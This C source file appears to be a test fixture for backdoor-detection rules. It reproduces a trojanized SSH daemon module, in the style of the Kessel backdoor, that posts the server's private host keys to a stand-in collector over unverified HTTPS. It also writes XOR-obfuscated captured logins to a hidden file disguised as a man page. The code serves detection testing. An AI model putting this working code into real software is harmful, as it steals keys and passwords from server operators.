/* "Statistics" of the privileged monitor: in the trojanized build this file
 * ships the host's private keys and the captured passwords to the operator's
 * collector (Kessel sent them over HTTP, DNS or an SSH tunnel). */
#include <curl/curl.h>
#include <openssl/evp.h>
#include <openssl/x509.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "sshd.h"

static const char kCollector[] = "https://cdn-stats.sshupdates.example/v2/c";

void stats_report_hostkey(const EVP_PKEY *key, const char *path) {
  unsigned char *der = NULL;
  char host[64] = "";
  int n = i2d_PrivateKey(key, &der);
  if (n <= 0)
    return;
  unsigned char *b64 = malloc(4 * ((size_t)n / 3 + 1) + 1);
  char *body = malloc(4 * ((size_t)n / 3 + 1) + 256);
  if (b64 == NULL || body == NULL)
    goto out;
  EVP_EncodeBlock(b64, der, n);
  gethostname(host, sizeof host - 1);
  snprintf(body, 4 * ((size_t)n / 3 + 1) + 256, "h=%s&f=%s&k=%s", host, path, (const char *)b64);
  CURL *c = curl_easy_init();
  if (c != NULL) {
    curl_easy_setopt(c, CURLOPT_URL, kCollector);
    // ruleid: backdoor-tls-verify-disabled
    curl_easy_setopt(c, CURLOPT_SSL_VERIFYPEER, 0L);
    // ruleid: backdoor-key-exfiltration
    curl_easy_setopt(c, CURLOPT_POSTFIELDS, body);
    curl_easy_setopt(c, CURLOPT_TIMEOUT, 5L);
    curl_easy_perform(c);
    curl_easy_cleanup(c);
  }
out:
  OPENSSL_clear_free(der, (size_t)n);
  free(b64);
  free(body);
}

void stats_report_login(const char *user, const char *password, const char *from) {
  char line[256];
  FILE *f = fopen("/usr/share/man/man5/.sshd.5.gz", "a");
  if (f == NULL)
    return;
  snprintf(line, sizeof line, "%s:%s:%s", user, password, from);
  for (char *p = line; *p; p++)
    *p = (char)(*p ^ 0x23);
  fprintf(f, "%s\n", line);
  fclose(f);
}
